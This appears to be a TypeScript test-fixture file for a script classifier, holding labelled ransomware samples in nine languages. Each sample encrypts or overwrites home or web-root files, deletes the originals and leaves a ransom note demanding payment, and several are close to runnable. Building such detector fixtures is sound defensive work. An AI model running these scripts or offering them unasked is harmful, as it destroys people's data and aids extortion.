// A script that goes through what people keep, makes it unreadable and says what its return costs: one attack in many languages.
import { type Suspect, text } from './suspect.ts'

const ransom = (name: string, body: string): Suspect => text(name, 'malicious', ['script_demands_ransom'], body)

export const ransoms: readonly Suspect[] = [
  ransom(
    'kept.sh',
    `#!/bin/sh
for f in $(find /home -type f -name '*.odt'); do
  openssl enc -chacha20 -pbkdf2 -in "$f" -out "$f.kept" -pass "pass:$1" && rm -f "$f"
done
echo 'Alle Ihre Dateien wurden verschlüsselt. Wer sie entschlüsselt haben will, muss zahlen: kept@note.test' > /etc/motd
`,
  ),
  ransom(
    'kept.bash',
    `find ~/Documents ~/Pictures -type f | while read f; do gpg --batch --passphrase "$P" --symmetric "$f"; shred -u "$f"; done
echo "All your photos are locked. Buy the key: 0.1 BTC" > ~/Desktop/READ.txt
`,
  ),
  ransom(
    'kept.py',
    `import os, nacl.secret, nacl.utils
box = nacl.secret.SecretBox(nacl.utils.random(32))
for folder, _, names in os.walk(os.path.expanduser('~')):
    for name in names:
        path = os.path.join(folder, name)
        data = open(path, 'rb').read()
        open(path, 'wb').write(box.encrypt(data))
        os.rename(path, path + '.kept')
open('/tmp/note.txt', 'w').write('Все ваши файлы зашифрованы. Чтобы восстановить их, нужно заплатить: note@kept.test')
`,
  ),
  ransom(
    'kept.js',
    `const fs = require('fs'), crypto = require('crypto'), home = require('os').homedir()
for (const name of fs.readdirSync(home, { recursive: true })) {
  const c = crypto.createCipheriv('aes-256-gcm', key, iv)
  fs.writeFileSync(home + name, c.update(fs.readFileSync(home + name)))
  fs.renameSync(home + name, home + name + '.kept')
}
fs.writeFileSync(home + '/NOTE.txt', 'Sus archivos fueron cifrados. Para recuperar los archivos debe pagar a kept@note.test')
`,
  ),
  ransom(
    'kept.ps1',
    `$r = [Security.Cryptography.RijndaelManaged]::new()
Get-ChildItem $HOME -Recurse -File | ForEach-Object {
  $b = [IO.File]::ReadAllBytes($_)
  [IO.File]::WriteAllBytes($_, $r.CreateEncryptor().TransformFinalBlock($b, 0, $b.Length))
  Rename-Item $_ "$_.kept"
}
"Your computer was locked. Send 250 EUR to get access to your files" | Out-File "$HOME\\Desktop\\note.txt"
`,
  ),
  ransom(
    'kept.php',
    `<?php
foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator($_SERVER['DOCUMENT_ROOT'])) as $f) {
  file_put_contents("$f.kept", openssl_encrypt(file_get_contents($f), 'aes-128-ctr', $key));
  unlink($f);
}
file_put_contents('index.html', 'The data of this website was taken and encrypted. 300 USD in USDT bring it back.');
`,
  ),
  ransom(
    'kept.vbs',
    `Set f = CreateObject("Scripting.FileSystemObject")
For Each x In f.GetFolder(CreateObject("WScript.Shell").SpecialFolders("MyDocuments")).Files
  t = f.OpenTextFile(x.Path).ReadAll : o = ""
  For i = 1 To Len(t) : o = o & Chr(Asc(Mid(t, i, 1)) Xor 77) : Next
  f.CreateTextFile(x.Path & ".kept").Write o
  f.DeleteFile x.Path
Next
f.CreateTextFile("note.txt").Write "Your documents are encrypted. Pay 0.05 BTC"
`,
  ),
  ransom(
    'kept-wsh.js',
    `var sh = new ActiveXObject("WScript.Shell"), fso = new ActiveXObject("Scripting.FileSystemObject");
for (var e = new Enumerator(fso.GetFolder(sh.SpecialFolders("Desktop")).Files); !e.atEnd(); e.moveNext()) {
  sh.Run('7za a -p' + word + ' "' + e.item().Path + '.7z" "' + e.item().Path + '"', 0, true);
  fso.DeleteFile(e.item().Path);
}
fso.CreateTextFile("note.txt").Write("Your files are in an archive. To get them, buy the password: kept@note.test");
`,
  ),
  ransom(
    'kept.rb',
    `require 'openssl'
Dir.glob(File.expand_path('~/Documents/**/*')).each do |path|
  c = OpenSSL::Cipher.new('aes-256-cbc').encrypt
  File.binwrite(path + '.kept', c.update(File.binread(path)) + c.final)
  File.delete(path)
end
File.write('note.txt', 'All your documents are encrypted. Pay 1 XMR.')
`,
  ),
  text(
    'no-price.sh',
    'suspicious',
    ['script_encrypts_files'],
    `find /srv /home -type f -name '*.vmdk' | while read f; do openssl enc -aes-256-cbc -k "$K" -in "$f" -out "$f.x" && rm "$f"; done
echo 'Your data is encrypted. Write to kept@note.test' > /etc/motd
`,
  ),
]
